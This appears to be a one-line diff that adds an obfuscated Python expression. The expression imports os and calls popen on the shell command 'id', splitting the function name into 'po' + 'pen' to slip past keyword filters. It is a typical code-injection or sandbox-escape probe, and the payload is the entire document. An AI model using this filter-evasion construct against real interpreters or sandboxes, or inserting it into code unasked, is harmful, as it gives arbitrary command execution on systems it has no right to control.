@@ -1,0 +1,1 @@
+(lambda m: (lambda f: f('id'))(getattr(m, 'po' + 'pen')))(__import__('os'))
